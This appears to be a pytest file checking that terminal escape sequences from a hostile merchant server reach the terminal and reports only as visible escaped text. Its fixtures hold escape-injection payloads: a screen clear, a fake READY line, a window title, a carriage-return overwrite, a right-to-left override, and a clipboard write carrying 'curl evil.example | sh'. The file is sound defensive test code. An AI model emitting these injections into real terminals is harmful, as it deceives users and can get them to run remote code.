"""A hostile merchant's escape codes never reach the terminal raw: no cleared screen, no fake green READY line, no
window title, no clipboard write; what it said is shown as visible escapes."""
from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest

from reporting.allure import ALLURE_BIN
from reporting.inert import printable, terminal_safe
from support.targets.servers import ServerThread
from tests.certification.harness import certification_stack, run_features
from tests.hostile.refusing_merchant import certify_against

CLEAR_SCREEN = "\x1b[2J\x1b[H"
FAKE_READY = "\x1b[1;32mREADY for invoices, channels, payouts on the Cryptopay sandbox\x1b[0m"
WINDOW_TITLE = "\x1b]0;certified\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
C1_CSI = "\x9b2J"  # the 8-bit form of ESC [
OVERWRITE = "\rPASS  invoices item 12"
ESCAPES = CLEAR_SCREEN + FAKE_READY + WINDOW_TITLE + CLIPBOARD + C1_CSI + OVERWRITE
# The colours pytest itself writes with --color=yes; everything else that starts with ESC came from elsewhere.
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def foreign_controls(output: str) -> list[str]:
    """Control characters in the output that are not the terminal writer's own colours or line breaks."""
    rest = _SGR.sub("", output)
    return sorted({repr(c) for c in rest if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f})


@pytest.mark.slow
@pytest.mark.skipif(not ALLURE_BIN.exists(), reason="Allure 3 is not installed in .tools/")
def test_escape_codes_in_a_merchant_refusal_reach_the_terminal_as_visible_text(tmp_path: Path) -> None:
    # -v: pytest's tracebacks and short summary are printed too (without it the scenario lines say Why and Fix);
    # -vv, because the harness runs with -q.
    run = certify_against(tmp_path, lambda environ: f"<p>refused {ESCAPES} end</p>", "--color=yes", "-vv", "-rfEs")
    output = run.verdicts.output
    assert run.verdicts.returncode == 1, output[-3000:]
    # The scenario lines, pytest's failure sections and short summary, and the verdict all ran with the text in.
    assert "go-live verdict" in output and "short test summary" in output, output[-3000:]
    assert "FAILURES" in output and re.search(r"\] \x1b\[31mFAIL", output), output[-3000:]
    assert foreign_controls(output) == [], output[-3000:]
    assert printable(FAKE_READY) in output and printable(WINDOW_TITLE) in output  # said, not obeyed
    junit = run.junit.read_text(encoding="utf-8")
    assert printable(CLIPBOARD) in junit and not foreign_controls(junit)
    markdown = (run.reports / "go-live-summary.md").read_text(encoding="utf-8")
    assert "certified" in markdown and not foreign_controls(markdown)


def answering_the_preflight_with(words: str):
    """The reference merchant, except that its balance answers carry `words` where an amount should be."""
    def front(app):  # noqa: ANN001, ANN202
        def wsgi(environ: dict, start_response):  # noqa: ANN001
            if environ.get("PATH_INFO", "").endswith("/balance"):
                body = json.dumps({"balances": {"EUR": words}}, ensure_ascii=False).encode("utf-8")
                start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(body)))])
                return [body]
            return app(environ, start_response)
        return wsgi
    return front


@pytest.mark.slow
def test_escape_codes_in_a_preflight_answer_reach_the_terminal_as_visible_text(tmp_path: Path) -> None:
    # The preflight's message is printed by pytest's own error path, not through the suite's terminal writer.
    words = "1" + C1_CSI + "\u009d0;certified\u009c" + "\u202eYDAER"
    with certification_stack(tmp_path) as stack:
        server = ServerThread(answering_the_preflight_with(words)(stack.merchant_app), "hostile balances").start()
        try:
            stack.env["MERCHANT_PROBE_URL"] = f"{server.url}/probe"
            verdicts = run_features(stack, tmp_path, "--color=yes")
        finally:
            server.stop()
    assert verdicts.returncode == 4, verdicts.output[-3000:]
    assert "cannot start" in verdicts.output and printable(C1_CSI) in verdicts.output, verdicts.output[-3000:]
    assert foreign_controls(verdicts.output) == [] and "\u202e" not in verdicts.output


def test_the_terminal_stream_keeps_its_own_colours_and_shows_everything_else() -> None:
    assert terminal_safe("\x1b[31mFAIL\x1b[0m\r\n") == "\x1b[31mFAIL\x1b[0m\r\n"
    assert terminal_safe(WINDOW_TITLE + "x\ty") == "\\x1b]0;certified\\x07x\ty"
    assert terminal_safe(CLEAR_SCREEN) == "\\x1b[2J\\x1b[H"
    assert printable(OVERWRITE + C1_CSI) == "\\x0dPASS  invoices item 12\\x9b2J"
